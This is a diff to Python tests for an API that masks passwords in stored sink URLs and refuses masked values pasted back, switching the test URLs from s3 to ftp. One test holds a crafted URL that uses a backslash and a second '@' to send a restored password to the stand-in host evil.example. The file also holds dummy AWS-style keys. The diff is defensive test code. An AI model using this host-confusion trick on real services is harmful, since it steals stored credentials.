@@ -294,7 +294,7 @@ def test_fuzzed_requests_never_get_a_5xx(client, store):
         parse_sink(cfg.sink)
 
 
-SECRET_SINK = '{ batch(10) => dfs("s3://AKIAKEY:SeCrEt@bucket/p") }'
+SECRET_SINK = '{ batch(10) => dfs("ftp://AKIAKEY:SeCrEt@bucket/p") }'
 
 
 def test_listings_hide_url_passwords_and_refuse_them_back(client, store):
@@ -323,22 +323,22 @@ def test_listings_hide_url_passwords_and_refuse_them_back(client, store):
     assert r.status_code == 200 and r.json()["state"] == "SUCCEEDED", r.text
     assert store.get_logical("web1").sink == SECRET_SINK.replace("batch(10)", "batch(20)")
     # a hidden password that no stored config holds is refused, not stored as '***'
-    for sink in ('dfs("s3://OTHER:***@bucket/p")', 'dfs("https://***@elsewhere/x")'):
+    for sink in ('dfs("ftp://OTHER:***@bucket/p")', 'dfs("https://***@elsewhere/x")'):
         r = client.put("/api/configs/web1", json={"source": "null", "sink": sink})
         assert r.status_code == 400 and "password a listing hid" in r.json()["message"]
     r = client.post("/api/commands", json={"command": "config", "args": [
-        "web3", "null", 'dfs("s3://OTHER:***@bucket/p")']})
+        "web3", "null", 'dfs("ftp://OTHER:***@bucket/p")']})
     assert r.status_code == 400 and store.get_logical("web3") is None
     assert "***" not in store.get_logical("web1").sink
 
 
 def test_a_pasted_back_password_never_goes_to_another_host(client, store):
     victim = 'dfs("ftp://ops:S3cretPw@ftp.corp/logs/app")'
-    aws = 'dfs("s3://AKIA:wJalr/K7MDENG+bPxRfiCY@bucket/logs")'
+    aws = 'dfs("ftp://AKIA:wJalr/K7MDENG+bPxRfiCY@bucket/logs")'
     for name, sink in (("victim", victim), ("aws", aws)):
         assert client.put(f"/api/configs/{name}", json={"source": "null", "sink": sink}
                           ).status_code == 200
-    assert client.get("/api/configs/aws").json()["sink"] == 'dfs("s3://AKIA:***@bucket/logs")'
+    assert client.get("/api/configs/aws").json()["sink"] == 'dfs("ftp://AKIA:***@bucket/logs")'
     assert "wJalr" not in client.get("/api/configs").text
     # the review's paste: stored, fsspec sent the password to evil.example
     thief = 'dfs("ftp://ops:***@ftp.corp\\\\@evil.example/x/y")'
@@ -349,7 +349,7 @@ def test_a_pasted_back_password_never_goes_to_another_host(client, store):
     assert "S3cretPw" not in r.text and store.get_logical("thief") is None
     # pasted back unchanged, both are restored
     r = client.put("/api/configs/aws", json={"source": "null", "flow": "f2",
-                                             "sink": 'dfs("s3://AKIA:***@bucket/logs")'})
+                                             "sink": 'dfs("ftp://AKIA:***@bucket/logs")'})
     assert r.status_code == 200 and store.get_logical("aws").sink == aws
 
 
